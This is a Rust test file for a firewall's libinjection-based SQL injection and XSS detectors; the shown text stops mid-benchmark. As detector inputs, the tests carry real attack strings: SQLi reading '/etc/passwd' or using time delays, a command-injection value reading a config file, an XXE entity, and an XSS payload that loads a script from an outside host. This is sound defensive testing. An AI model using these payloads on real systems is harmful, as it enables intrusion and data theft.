//! Tests for the libinjection wrapper: ModSecurity's operator cases, the CRS 942100 / 941100
//! regression payloads (extracted by hand, see the comments), libinjection's own fingerprint
//! expectations, and a random-input robustness loop.

use super::{detect_sqli, detect_xss};

/// ModSecurity `secrules-language-tests/operators/detectSQLi.json` (input, ret): all cases.
/// The file has no byte escapes; inputs are plain JSON strings.
const MODSEC_SQLI: &[(&str, bool)] = &[
    ("", false),
    ("this is not isqli", false),
    ("ascii(substring(version() from 1 for 1))", true),
];

/// ModSecurity `secrules-language-tests/operators/detectXSS.json` (input, ret): all cases.
const MODSEC_XSS: &[(&str, bool)] = &[
    ("", false),
    ("this is not an XSS", false),
    ("<a href=\"javascript:alert(1)\">)", true),
];

#[test]
fn modsecurity_detect_sqli_cases() {
    for (input, ret) in MODSEC_SQLI {
        assert_eq!(
            detect_sqli(input.as_bytes()).is_some(),
            *ret,
            "detectSQLi {input:?}"
        );
    }
}

#[test]
fn modsecurity_detect_xss_cases() {
    for (input, ret) in MODSEC_XSS {
        assert_eq!(detect_xss(input.as_bytes()), *ret, "detectXSS {input:?}");
    }
}

/// Cross-checks the embedded cases against the shared test files when they are present
/// (they sit beside the repository on developer machines and in CI).
#[test]
fn modsecurity_case_files_match_embedded_cases() {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../shared/modsecurity-tests/secrules-language-tests/operators");
    for (file, cases) in [
        ("detectSQLi.json", MODSEC_SQLI),
        ("detectXSS.json", MODSEC_XSS),
    ] {
        let Ok(text) = std::fs::read_to_string(dir.join(file)) else {
            continue;
        };
        let parsed: Vec<serde_json::Value> = serde_json::from_str(&text).expect(file);
        let from_file: Vec<(String, bool)> = parsed
            .iter()
            .map(|c| {
                (
                    c["input"].as_str().expect("input").to_owned(),
                    c["ret"].as_i64().expect("ret") == 1,
                )
            })
            .collect();
        let embedded: Vec<(String, bool)> =
            cases.iter().map(|(i, r)| ((*i).to_owned(), *r)).collect();
        assert_eq!(
            from_file, embedded,
            "{file} changed: update the embedded cases"
        );
    }
}

/// CRS v4.28.0 `942100.yaml`: values of the tests with `expect_ids: [942100]`, as the rule
/// sees them (form-decoded by the body parser, then `t:utf8toUnicode,t:urlDecodeUni,
/// t:removeNulls`, which change nothing further here). Test 10 has no `var=`: the form parser
/// splits at the first `=`, giving the name and value listed; either may match (ARGS_NAMES
/// and ARGS are both targets). Test 15's value comes from an XML attribute.
const CRS_942100_ATTACKS: &[(u32, &[&str])] = &[
    (1, &["1234 OR 1=1"]),
    (2, &["-1839' or '1'='1"]),
    (3, &["-1839\" or \"1\"=\"2"]),
    (4, &["2010-01-01' sleep(20.to_i) '"]),
    (5, &["EmptyValue' and 526=527"]),
    (6, &["foo') UNION ALL select NULL --"]),
    (7, &["foo')waitfor delay'5:0:20'--"]),
    (8, &["JKGHUKGDI8TDHLFJH72FZLFJSKFH' and sleep(12) --"]),
    (9, &["/path/to/file/unitests.txt') UNION ALL select NULL --"]),
    (
        10,
        &[
            "1'||(select extractvalue(xmltype('<?xml version",
            "\"1.1\" encoding=\"UTF-8\"?><!DOCTYPE root [ <!ENTITY % toyop SYSTEM \"https://coreruleset.org/\">%toyop;",
        ],
    ),
    (11, &["sleep(20)"]),
    (12, &["unittests@coreruleset.org\" sleep(10.to_i) \""]),
    (13, &["\" | type %SystemDrive%\\\\config.ini | \""]),
    (
        14,
        &["\"unittests@coreruleset.org\"')) and (select*from(select(sleep(5)))x) --"],
    ),
    (15, &["1234 OR 1=1"]),
];

#[test]
fn crs_942100_attacks_are_detected() {
    for (id, values) in CRS_942100_ATTACKS {
        let hit = values.iter().any(|v| detect_sqli(v.as_bytes()).is_some());
        assert!(hit, "942100 test {id}: none of {values:?} detected");
    }
}

/// Values that 942100's targets also see in every one of those requests (User-Agent, the
/// argument name `var`); the rule must not fire on them, or every test would match for the
/// wrong reason.
#[test]
fn crs_942100_benign_values_are_not_detected() {
    for v in ["OWASP CRS test agent", "var", "probe", "localhost"] {
        assert_eq!(detect_sqli(v.as_bytes()), None, "{v:?}");
    }
}

/// CRS v4.28.0 `941100.yaml`: values of the tests with `expect_ids: [941100]`, after the
/// request parsers (query / form decoding, XML entity decoding) and the rule's
/// `t:utf8toUnicode,t:urlDecodeUni,t:htmlEntityDecode,t:jsDecode,t:cssDecode,t:removeNulls`
/// applied by hand.
const CRS_941100_ATTACKS: &[(u32, &str)] = &[
    // Test 1: ARGS:input of the query string ('+' is a space; jsDecode turns `\\` into `\`).
    (
        1,
        "<script xmlns=\"http://www.w3.org/1999/xhtml\">setTimeout(\"top.frame2.location=\"javascript:(function () {var x = document.createElement(\\\"script\\\");x.src = \\\"//sdl.me/popup.js?//\\\";document.childNodes\\[0\\].appendChild(x);}());\"\",1000)</script>",
    ),
    // Test 2: ARGS:body.
    (
        2,
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,alert(1)\" />",
    ),
    // Test 3: REQUEST_HEADERS:User-Agent after t:urlDecodeUni.
    (
        3,
        "/char_test?mime=text/xml&body=<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\" src=\"data:,alert(1)\" />",
    ),
    // Test 6: ARGS:foo (`%3D` and `%77` decoded by the form parser).
    (6, "<xss onbeforehellfreezes=alerw(1)>"),
    // Test 7: XML://@probe after XML entity decoding.
    (
        7,
        "<script xmlns=\"http://www.w3.org/1999/xhtml\">setTimeout(\"top.frame2.location=\"javascript:(function () {var x = document.createElement(\\\"script\\\");x.src = \\\"//sdl.me/popup.js?//\\\";document.childNodes\\[0\\].appendChild(x);}());\"\",1000)</script>",
    ),
];

#[test]
fn crs_941100_attacks_are_detected() {
    for (id, v) in CRS_941100_ATTACKS {
        assert!(detect_xss(v.as_bytes()), "941100 test {id}: {v:?}");
    }
}

/// 941100 tests 4 and 5 (`no_expect_ids`): the only value in the rule's targets is the
/// User-Agent (the attack in test 5 sits in the Referer, which 941100 does not inspect).
#[test]
fn crs_941100_benign_values_are_not_detected() {
    for v in [
        "OWASP CRS test agent",
        "http://www.coreruleset.org",
        "text/xml",
    ] {
        assert!(!detect_xss(v.as_bytes()), "{v:?}");
    }
}

/// Fingerprints from libinjection's own test data (`tests/test-sqli-*.txt`, run by its
/// `testdriver.c` through `libinjection_sqli(input, len, fingerprint)`, printing the
/// fingerprint when the input is SQLi and nothing otherwise) and its README.
const LIBINJECTION_FINGERPRINTS: &[(&str, Option<&str>)] = &[
    // README of libinjection/libinjection (the C library).
    (
        "-1' and 1=1 union/* foo */select load_file('/etc/passwd')--",
        Some("s&1UE"),
    ),
    // tests/test-sqli-003.txt and -028.txt: not SQLi.
    ("foo \"bar\"", None),
    ("--'blah'", None),
    // `libinjection_sqli_not_whitelist`, two-token case: `1U` is benign when it really is
    // just a number and `union` (2 tokens), SQLi when folding or comments were involved.
    ("1 union", None),
    ("1 /* junk */ UNION", Some("1U")),
    // The classic, read in the single-quote context as `'1' or '1'='1`.
    ("1' or '1'='1", Some("s&sos")),
    // README of the Rust bindings to the C library.
    ("' OR '1'='1' --", Some("s&sos")),
];

#[test]
fn libinjection_fingerprints() {
    for (input, fp) in LIBINJECTION_FINGERPRINTS {
        assert_eq!(detect_sqli(input.as_bytes()).as_deref(), *fp, "{input:?}");
    }
}

#[test]
fn xss_classics() {
    assert!(detect_xss(b"<script>alert(1)</script>"));
    assert!(detect_xss(b"<img src=x onerror=alert(1)>"));
    assert!(detect_xss(b"\" onmouseover=\"alert(1)"));
    assert!(!detect_xss(b"<b>bold</b> and <i>italic</i>"));
    assert!(!detect_xss(b"1 < 2 and 3 > 2"));
}

/// SQL and HTML metacharacters and keyword fragments (which reach deep into the
/// tokenizers), for random inputs.
const PIECES: &[&[u8]] = &[
    b"'",
    b"\"",
    b"`",
    b"/*",
    b"*/",
    b"--",
    b"#",
    b"(",
    b")",
    b";",
    b",",
    b".",
    b"0x",
    b"1",
    b"1e",
    b"$",
    b"@",
    b"@@",
    b"\\",
    b"N'",
    b"x'",
    b"b'",
    b"q'[",
    b"{",
    b"}",
    b"[",
    b"]",
    b"<",
    b">",
    b"</",
    b"<!--",
    b"-->",
    b"<?",
    b"<!",
    b"=",
    b"&",
    b"&#",
    b"&#x",
    b";",
    b" ",
    b"\t",
    b"\n",
    b"\0",
    b"\xff",
    b"\xc0",
    b"select",
    b"union",
    b"or",
    b"and",
    b"sleep",
    b"script",
    b"onerror",
    b"javascript:",
    b"href",
    b"src",
    b"style",
    b"-",
    b"+",
    b"*",
    b"|",
    b"!",
    b"::",
    b"e",
];

/// Small deterministic PRNG (xorshift64*) so the robustness loop needs no extra crate.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// Refills `buf` with fewer than `max` random bytes, or as many random `pieces`.
    fn fill(&mut self, buf: &mut Vec<u8>, max: u64, pieces: Option<&[&[u8]]>) {
        buf.clear();
        for _ in 0..self.next() % max {
            let r = self.next();
            match pieces {
                Some(p) => buf.extend_from_slice(p[(r as usize) % p.len()]),
                None => buf.push(r as u8),
            }
        }
    }
}

/// No input may panic or hang: random bytes, and random strings over an alphabet of SQL and
/// HTML metacharacters and keyword fragments (which reach deep into the tokenizers).
#[test]
fn random_inputs_never_panic() {
    let mut rng = Rng(0x9e37_79b9_7f4a_7c15);
    let mut buf = Vec::new();
    for round in 0..20_000u32 {
        rng.fill(&mut buf, 48, (round % 2 == 1).then_some(PIECES));
        let _ = detect_sqli(&buf);
        let _ = detect_xss(&buf);
    }
    // Long inputs exercise the token-buffer limits.
    let long: Vec<u8> = b"1' or (select 1/*"
        .iter()
        .copied()
        .cycle()
        .take(100_000)
        .collect();
    assert!(detect_sqli(&long).is_some());
    let _ = detect_xss(&long);
}

/// The shortcuts in `mod.rs` never hide a detection: each input they answer is checked
/// against the crate itself. SQLi: every word of the crate's keyword table that is a plain
/// word (as listed, lower-case, and with a digit or `_1` appended), integers, random plain
/// words, and random phrases of keywords, ordinary words and numbers; XSS: random strings
/// of the pieces above without `<` or `=`, and the attacks of `xss_classics` with those two
/// characters taken out.
#[test]
fn shortcuts_agree_with_libinjection() {
    let sqli = |w: &[u8]| libinjectionrs::detect_sqli(w).is_injection();
    let xss = |w: &[u8]| libinjectionrs::detect_xss(w).is_injection();
    let mut words = 0;
    for kw in libinjectionrs::sqli::sqli_data::SQL_KEYWORDS {
        let w = kw.word.as_bytes();
        for v in [
            w.to_vec(),
            w.to_ascii_lowercase(),
            [w, b"1"].concat(),
            [w, b"_1"].concat(),
            [w, b".x"].concat(),
            [b"json.", w].concat(),
            [b"a.", w, b".b"].concat(),
        ] {
            if super::plain_word(&v) {
                words += 1;
                assert!(
                    !sqli(&v),
                    "plain word {:?} is SQLi",
                    String::from_utf8_lossy(&v)
                );
            }
        }
    }
    assert!(
        words > 1_000,
        "only {words} keyword variants were plain words"
    );
    let mut rng = Rng(0x2545_f491_4f6c_dd1d);
    const WORD: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.";
    // Dotted words built from keywords, so that some part before a `.` is one.
    let parts: Vec<&[u8]> = libinjectionrs::sqli::sqli_data::SQL_KEYWORDS
        .iter()
        .map(|k| k.word.as_bytes())
        .filter(|w| w.iter().all(u8::is_ascii_alphanumeric))
        .chain([&b"json"[..], b"items", b"0", b"sku", b"x1"])
        .collect();
    let mut buf = Vec::new();
    let mut plain = 0;
    for round in 0..30_000u32 {
        buf.clear();
        let len = 1 + (rng.next() % 24) as usize;
        match round % 3 {
            0 => {
                for i in 0..len {
                    let r = rng.next() as usize;
                    buf.push(if i == 0 {
                        WORD[r % 52]
                    } else {
                        WORD[r % WORD.len()]
                    });
                }
            }
            1 => {
                for i in 0..(1 + len % 4) {
                    if i > 0 {
                        buf.push(b'.');
                    }
                    buf.extend_from_slice(parts[rng.next() as usize % parts.len()]);
                }
            }
            _ => {
                for i in 0..len {
                    buf.push(if i == len / 2 && rng.next().is_multiple_of(2) {
                        b'.'
                    } else {
                        b'0' + (rng.next() % 10) as u8
                    });
                }
            }
        }
        if super::plain_word(&buf) {
            plain += 1;
            assert!(!sqli(&buf), "{:?}", String::from_utf8_lossy(&buf));
        }
    }
    assert!(
        plain > 15_000,
        "only {plain} random inputs were plain words"
    );
    // Not plain words: left to libinjection, which flags some.
    for w in [
        &b"1union"[..],
        b"1 union",
        b"select.1",
        b"a b",
        b"$1",
        b"-1",
        b"1e",
        b"1.2.3",
        b".5",
    ] {
        assert!(!super::plain_word(w), "{:?}", String::from_utf8_lossy(w));
    }
    assert!(detect_sqli(b"1union select 1").is_some());

    // Phrases of keywords (and the halves of two-word ones), ordinary words and numbers.
    let keywords: Vec<&[u8]> = libinjectionrs::sqli::sqli_data::SQL_KEYWORDS
        .iter()
        .flat_map(|k| k.word.split(' '))
        .filter(|w| !w.is_empty() && w.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'))
        .map(str::as_bytes)
        .collect();
    let ordinary: Vec<Vec<u8>> = (0..200)
        .map(|_| {
            (0..1 + rng.next() % 8)
                .map(|_| b'a' + (rng.next() % 26) as u8)
                .collect()
        })
        .chain(["0", "1", "42", "007", "x1", "main_st"].map(|w| w.as_bytes().to_vec()))
        .collect();
    let mut phrases = 0;
    for round in 0..30_000u32 {
        buf.clear();
        for i in 0..(1 + rng.next() % 6) {
            if i > 0 {
                buf.extend_from_slice(if rng.next().is_multiple_of(5) {
                    b"  "
                } else {
                    b" "
                });
            }
            let r = rng.next() as usize;
            let w: &[u8] = if r.is_multiple_of(4) {
                keywords[(r / 4) % keywords.len()]
            } else {
                &ordinary[(r / 4) % ordinary.len()]
            };
            if round % 2 == 0 {
                buf.extend_from_slice(w);
            } else {
                buf.extend(w.iter().map(u8::to_ascii_lowercase));
            }
        }
        if super::plain_phrase(&buf) {
            phrases += 1;
            assert!(!sqli(&buf), "{:?}", String::from_utf8_lossy(&buf));
        }
    }
    assert!(phrases > 1_000, "only {phrases} random phrases were plain");
    for p in [
        &b"value number 7"[..],
        b"John Smith",
        b"42 Main Street",
        b"a  b",
    ] {
        assert!(super::plain_phrase(p), "{:?}", String::from_utf8_lossy(p));
    }
    for p in [
        &b"1 union select 1"[..],
        b"x group by 2",
        b"double precision",
        b"a, b",
        b"a(b)",
    ] {
        assert!(!super::plain_phrase(p), "{:?}", String::from_utf8_lossy(p));
    }

    let pieces: Vec<&[u8]> = PIECES
        .iter()
        .copied()
        .filter(|p| super::no_markup(p))
        .collect();
    for round in 0..20_000u32 {
        rng.fill(&mut buf, 32, (round % 4 != 0).then_some(&pieces[..]));
        if super::no_markup(&buf) {
            assert!(!xss(&buf), "{:?}", String::from_utf8_lossy(&buf));
        }
    }
    for attack in [
        &b"<script>alert(1)</script>"[..],
        b"<img src=x onerror=alert(1)>",
        b"\" onmouseover=\"alert(1)",
        b"' style='x:expression(alert(1))",
        b"javascript:alert(1)",
    ] {
        assert!(!super::no_markup(attack) || !xss(attack));
        let stripped: Vec<u8> = attack
            .iter()
            .copied()
            .filter(|&b| b != b'<' && b != b'=')
            .collect();
        assert!(!xss(&stripped), "{:?}", String::from_utf8_lossy(&stripped));
    }
}

// Differential tests of our SQLi port (`sqli.rs`) against the crate whose answers it must
// give exactly (`libinjectionrs::detect_sqli`, verdict and fingerprint).

/// The crate's and our answer for `input` when they differ: (ours, crate's), each as
/// (is SQLi, fingerprint).
type Disagreement = ((bool, String), (bool, String));

fn compare_with_crate(input: &[u8]) -> Option<Disagreement> {
    let ours = super::sqli::detect(input);
    let theirs = libinjectionrs::detect_sqli(input);
    let their_fp = theirs.fingerprint.as_ref().map_or("", |f| f.as_str());
    (ours.is_injection() != theirs.is_injection() || ours.fingerprint() != their_fp).then(|| {
        (
            (ours.is_injection(), ours.fingerprint().to_owned()),
            (theirs.is_injection(), their_fp.to_owned()),
        )
    })
}

/// Fails, printing the input, if our SQLi detector and the crate disagree on it.
fn assert_same_as_crate(input: &[u8]) {
    if let Some((ours, theirs)) = compare_with_crate(input) {
        panic!(
            "SQLi port disagrees with libinjectionrs on {:?} (bytes {input:?}): ours {ours:?}, \
             crate {theirs:?}",
            String::from_utf8_lossy(input)
        );
    }
}

/// Inputs that reach each parser and folding rule of libinjection_sqli.c.
const SQLI_PARSER_CASES: &[&str] = &[
    "$$abc$$ or 1",
    "$$abc",
    "$tag$x$tag$ union",
    "$tag$x",
    "$1,000.00",
    "$.x",
    "$",
    "$a",
    "q'[abc]' or 1",
    "q'(abc",
    "Q'<a>'",
    "nq'!x!'",
    "N'abc' or 1=1",
    "U&'x' or 1",
    "E'x\\'y' or 1",
    "b'0101' or 1",
    "x'deadbeef' union select",
    "0x",
    "0xfg",
    "0b102",
    "1e",
    "1e+5",
    "1.5f union",
    "1.5d",
    "1fUNION select 1",
    ".",
    ".5",
    "@@version",
    "@`x` or 1",
    "@'x' or 1",
    "@x:=1",
    "@",
    "[col] or 1",
    "[col",
    "`select` 1",
    "`version`()",
    "1 or `",
    "{``.``.id}",
    "{x 1} or 1",
    "\\N or 1",
    "\\%1",
    "\\1 or 1",
    "select.1",
    "select`x`",
    "/*!50000 union*/ select",
    "/* /* */ 1",
    "/*/*/",
    "1 collate utf8_bin",
    "1 collate latin1",
    "; if 1=1 select 1",
    "user(1)",
    "user()",
    "password(1)",
    "a::int or 1",
    "1 or 1 -- sp_password",
    "1 or 1 # SP_Password",
    "1 in (1)",
    "1 not in (1)",
    "1 like (1)",
    "1 not like 1",
    "1 group by 1",
    "x into outfile 'y'",
    "x INTO OUTFILE 'y'",
    "1 <=> 1",
    "1 != 1 || 1",
    "1 && 1 :: 1",
    "1--x",
    "1-- x",
    "1#x",
    "1 #x",
    "1/*x*/",
    "1 --",
    "1--",
    "1\u{a0}--",
    "a--",
    "1, -1, 2",
    "1,-sin(1)",
    "select - 1",
    "select + (1)",
    "select . `foo`",
    "db.table.col or 1",
    "!!1 or 1",
    "~1 or 1",
    "not 1 or 1",
    "((1)) or ((1))",
    "1;;;select 1",
    "'a' 'b' or 1",
    "1 union select",
    "1) or (1=1",
    "1 and 1",
    "1 and 1<2",
    "\"x\" + \"y\"",
    "'x' + 'y'",
    "x' + 'y",
    "a\\'b' or 1",
    "a\\\\'b' or 1",
    "a'' or 1",
    "\"\" or \"\"=\"",
    "1 OR 'a'='a'#",
    "sleep(5)#",
    "benchmark(1,md5(1))",
    "1 waitfor delay '0:0:5'",
    "1 + (select 1) - 1",
    "1 - (1) , (1) - 1",
    "a=(b) or (c",
    "1 = (a) , (1",
    "a ) = ( b",
    "1 ) , ( 1",
    "x collate",
    "1 between 1 and 2",
    "select * from users where id = 1",
];

/// Every input of the tests above (and the cases that reach each parser) gives the crate's
/// answer.
#[test]
fn sqli_port_agrees_on_known_inputs() {
    let mut inputs: Vec<Vec<u8>> = Vec::new();
    let mut add = |s: &[u8]| inputs.push(s.to_vec());
    for (i, _) in MODSEC_SQLI.iter().chain(MODSEC_XSS) {
        add(i.as_bytes());
    }
    for (_, values) in CRS_942100_ATTACKS {
        for v in *values {
            add(v.as_bytes());
        }
    }
    for (_, v) in CRS_941100_ATTACKS {
        add(v.as_bytes());
    }
    for (i, _) in LIBINJECTION_FINGERPRINTS {
        add(i.as_bytes());
    }
    for v in [
        "OWASP CRS test agent",
        "var",
        "probe",
        "localhost",
        "http://www.coreruleset.org",
        "text/xml",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "<b>bold</b> and <i>italic</i>",
        "1 < 2 and 3 > 2",
        "1union",
        "1 union select 1",
        "1union select 1",
        "a b",
        "value number 7",
        "x group by 2",
        "double precision",
        "a, b",
        "a(b)",
    ] {
        add(v.as_bytes());
    }
    for p in PIECES {
        add(p);
    }
    for c in SQLI_PARSER_CASES {
        add(c.as_bytes());
    }
    add(&b"1' or (select 1/*"
        .iter()
        .copied()
        .cycle()
        .take(100_000)
        .collect::<Vec<u8>>());
    for i in &inputs {
        assert_same_as_crate(i);
    }
}

/// Every keyword and fingerprint of the crate's table, alone and in a few templates, as
/// listed and in lower case, gives the crate's answer.
#[test]
fn sqli_port_agrees_on_every_keyword() {
    let templates: [(&[u8], &[u8]); 8] = [
        (b"", b""),
        (b"1 ", b" 1"),
        (b"' ", b" '"),
        (b"", b"("),
        (b"1' ", b" 1"),
        (b"\" ", b" \""),
        (b"x ", b" 1 --"),
        (b"", b".1"),
    ];
    for kw in libinjectionrs::sqli::sqli_data::SQL_KEYWORDS {
        for w in [
            kw.word.as_bytes().to_vec(),
            kw.word.to_ascii_lowercase().into_bytes(),
        ] {
            for (before, after) in templates {
                assert_same_as_crate(&[before, &w, after].concat());
            }
        }
    }
    // No keyword is too long for the look-up's buffer.
    assert!(super::sqli::longest_keyword() <= super::sqli::LOOKUP_BUF_LEN);
}

/// Pieces of SQL for random inputs: quotes, digits, letters that start special strings,
/// keywords, operators, comments and delimiters.
const SQL_ALPHABET: &[&[u8]] = &[
    b"'",
    b"'",
    b"\"",
    b"\"",
    b"`",
    b"0",
    b"1",
    b"2",
    b"9",
    b"a",
    b"b",
    b"e",
    b"n",
    b"q",
    b"u",
    b"x",
    b"_",
    b"$",
    b"$$",
    b"@",
    b"@@",
    b"select",
    b"union",
    b"or",
    b"and",
    b"from",
    b"where",
    b"not",
    b"in",
    b"like",
    b"into",
    b"outfile",
    b"user",
    b"if",
    b"collate",
    b"sleep",
    b"null",
    b"by",
    b"group",
    b"is",
    b"utf8_bin",
    b"=",
    b"<",
    b">",
    b"!",
    b"|",
    b"&",
    b"-",
    b"+",
    b"*",
    b"/",
    b"%",
    b"(",
    b")",
    b",",
    b";",
    b".",
    b"#",
    b"--",
    b"/*",
    b"*/",
    b"/*!",
    b"\\",
    b" ",
    b" ",
    b" ",
    b"\n",
    b"\t",
    b"0x",
    b"0b",
    b"e",
    b"E",
    b"[",
    b"]",
    b"{",
    b"}",
    b":",
    b"::",
    b"~",
    b"^",
    b"?",
    b"U&'",
    b"q'[",
    b"N'",
    b"\0",
    b"\xa0",
    b"sp_password",
];

/// Refills `buf` with a random SQL-ish input of fewer than `max` bytes: pieces of
/// [`SQL_ALPHABET`] (sometimes upper-cased), words of the crate's keyword table (`words`, so
/// that multi-word keywords get merged), bytes 0x80-0xff, and now and then any byte.
fn random_sql(rng: &mut Rng, buf: &mut Vec<u8>, max: u64, words: &[&[u8]]) {
    buf.clear();
    let len = (rng.next() % max) as usize;
    while buf.len() < len {
        let r = rng.next();
        let piece = SQL_ALPHABET[(r >> 8) as usize % SQL_ALPHABET.len()];
        match r % 16 {
            0 => buf.push(0x80 | (r >> 8) as u8),
            1 => buf.push((r >> 8) as u8),
            2 => buf.extend(piece.iter().map(u8::to_ascii_uppercase)),
            3 => {
                for w in words[(r >> 8) as usize % words.len()].split(|&b| b == b' ') {
                    buf.extend_from_slice(w);
                    buf.push(b' ');
                }
            }
            _ => buf.extend_from_slice(piece),
        }
    }
    buf.truncate(len);
}

/// Compares `rounds` random inputs from `seed` (one in 100 up to 1,000 bytes long, the
/// others under 64); returns how many disagreed, printing the first few.
fn random_disagreements(seed: u64, rounds: u64) -> u64 {
    let mut rng = Rng(seed);
    let mut buf = Vec::new();
    let mut bad = 0;
    let words: Vec<&[u8]> = libinjectionrs::sqli::sqli_data::SQL_KEYWORDS
        .iter()
        .filter(|k| k.token_type != b'F')
        .map(|k| k.word.as_bytes())
        .collect();
    for round in 0..rounds {
        let max = if round % 100 == 0 { 1_000 } else { 64 };
        random_sql(&mut rng, &mut buf, max, &words);
        if let Some((ours, theirs)) = compare_with_crate(&buf) {
            bad += 1;
            if bad <= 20 {
                eprintln!(
                    "disagreement on {:?} (bytes {buf:?}): ours {ours:?}, crate {theirs:?}",
                    String::from_utf8_lossy(&buf)
                );
            }
        }
    }
    bad
}

/// 200,000 pseudo-random SQL-heavy inputs give the crate's answer.
#[test]
fn sqli_port_agrees_on_random_inputs() {
    let bad = random_disagreements(0x0123_4567_89ab_cdef, 200_000);
    assert_eq!(bad, 0, "{bad} random inputs disagree (printed above)");
}

/// Millions of random inputs (`SQLI_DIFF_ROUNDS`, default 5,000,000, seed `SQLI_DIFF_SEED`):
/// `cargo test --release -p wafer --lib sqli_port_agrees_on_many -- --ignored --nocapture`.
#[test]
#[ignore = "slow: run by hand"]
fn sqli_port_agrees_on_many_random_inputs() {
    let env = |k: &str, d: u64| {
        std::env::var(k)
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(d)
    };
    let rounds = env("SQLI_DIFF_ROUNDS", 5_000_000);
    let seed = env("SQLI_DIFF_SEED", 0x005e_ed0f_d1ff);
    let bad = random_disagreements(seed, rounds);
    eprintln!("{rounds} random inputs, {bad} disagreements");
    assert_eq!(bad, 0);
}

/// Decodes `%XX` (and `+` as a space when `plus` is set); anything malformed stays as is.
fn percent_decode(s: &[u8], plus: bool) -> Vec<u8> {
    let hex = |b: u8| (b as char).to_digit(16).map(|d| d as u8);
    let mut out = Vec::with_capacity(s.len());
    let mut i = 0;
    while i < s.len() {
        match (
            s[i],
            s.get(i + 1).copied().and_then(hex),
            s.get(i + 2).copied().and_then(hex),
        ) {
            (b'%', Some(h), Some(l)) => {
                out.push(h << 4 | l);
                i += 3;
                continue;
            }
            (b'+', _, _) if plus => out.push(b' '),
            (b, _, _) => out.push(b),
        }
        i += 1;
    }
    out
}

/// A YAML scalar as written after `data:` / `uri:` on one line, crudely unquoted.
fn yaml_scalar(v: &str) -> String {
    let v = v.trim();
    if let Some(inner) = v.strip_prefix('"').and_then(|v| v.strip_suffix('"')) {
        let mut out = String::new();
        let mut chars = inner.chars();
        while let Some(c) = chars.next() {
            if c != '\\' {
                out.push(c);
                continue;
            }
            match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some('r') => out.push('\r'),
                Some('0') => out.push('\0'),
                Some(c) => out.push(c),
                None => {}
            }
        }
        out
    } else if let Some(inner) = v.strip_prefix('\'').and_then(|v| v.strip_suffix('\'')) {
        inner.replace("''", "'")
    } else {
        v.to_owned()
    }
}

/// The CRS 942xxx regression payloads (`$CRS_DIR/tests/regression/tests/**/942*.yaml`, the
/// `data:` and `uri:` values, extracted crudely) give the crate's answer: each raw, URL-decoded,
/// and split into form / query arguments. Skipped when `CRS_DIR` is unset.
#[test]
fn sqli_port_agrees_on_crs_regression_payloads() {
    let Some(dir) = std::env::var_os("CRS_DIR") else {
        return;
    };
    let mut files = Vec::new();
    let mut dirs = vec![std::path::PathBuf::from(dir).join("tests/regression/tests")];
    while let Some(d) = dirs.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            let name = e.file_name().to_string_lossy().into_owned();
            if p.is_dir() {
                dirs.push(p);
            } else if name.starts_with("942") && name.ends_with(".yaml") {
                files.push(p);
            }
        }
    }
    assert!(
        !files.is_empty(),
        "CRS_DIR is set but has no 942*.yaml tests"
    );
    let mut compared = 0;
    for f in &files {
        let text = std::fs::read_to_string(f).expect("yaml");
        let lines: Vec<&str> = text.lines().collect();
        for (n, line) in lines.iter().enumerate() {
            let t = line.trim_start();
            let Some(v) = t.strip_prefix("data:").or_else(|| t.strip_prefix("uri:")) else {
                continue;
            };
            let value = if matches!(v.trim(), "|" | ">" | "|-" | ">-") {
                // A block scalar: the following, more indented lines.
                let indent = line.len() - t.len();
                lines[n + 1..]
                    .iter()
                    .take_while(|l| l.trim().is_empty() || l.len() - l.trim_start().len() > indent)
                    .map(|l| l.trim())
                    .collect::<Vec<_>>()
                    .join("\n")
            } else {
                yaml_scalar(v)
            };
            let raw = value.as_bytes();
            let mut variants = vec![
                raw.to_vec(),
                percent_decode(raw, false),
                percent_decode(raw, true),
            ];
            let query = raw.splitn(2, |&b| b == b'?').last().unwrap_or(raw);
            for part in query.split(|&b| b == b'&') {
                variants.push(percent_decode(part, true));
                for piece in part.splitn(2, |&b| b == b'=') {
                    variants.push(percent_decode(piece, true));
                }
            }
            for v in &variants {
                assert_same_as_crate(v);
                compared += 1;
            }
        }
    }
    assert!(compared > 1_000, "only {compared} CRS payloads compared");
}

/// Speed of our SQLi detector against the crate, in ns per call:
/// `cargo test --release -p wafer --lib bench_sqli_port -- --ignored --nocapture`.
#[test]
#[ignore = "benchmark: run by hand"]
fn bench_sqli_port_vs_crate() {
    use std::hint::black_box;
    use std::time::Instant;
    let samples: &[&[u8]] = &[
        b"Comfortable cotton t-shirt, model 17",
        b"A soft everyday shirt made of organic cotton. Machine washable at 30 degrees, \
          available in sizes S to XXL and in five colours. Ships within two working days. \
          Item number 17.",
        b"SKU-00017-BLUE-M",
        b"jane.doe@example.com",
        b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) \
          Chrome/120.0 Safari/537.36",
        b"1' or '1'='1",
        b"1 union select password from users--",
    ];
    // Best of 5 rounds of 100,000 calls (the machine is shared).
    let time = |f: &dyn Fn(&[u8]) -> bool, s: &[u8]| {
        let n = 100_000u32;
        for _ in 0..n / 10 {
            black_box(f(black_box(s)));
        }
        (0..5)
            .map(|_| {
                let t = Instant::now();
                for _ in 0..n {
                    black_box(f(black_box(s)));
                }
                t.elapsed().as_nanos() as f64 / f64::from(n)
            })
            .fold(f64::INFINITY, f64::min)
    };
    for s in samples {
        let old = time(&|s| libinjectionrs::detect_sqli(s).is_injection(), s);
        let new = time(&|s| super::sqli::detect(s).is_injection(), s);
        let shortcut = time(&|s| detect_sqli(s).is_some(), s);
        eprintln!(
            "{:>4} bytes  crate {old:>7.0} ns  port {new:>6.0} ns  ({:.1}x)  \
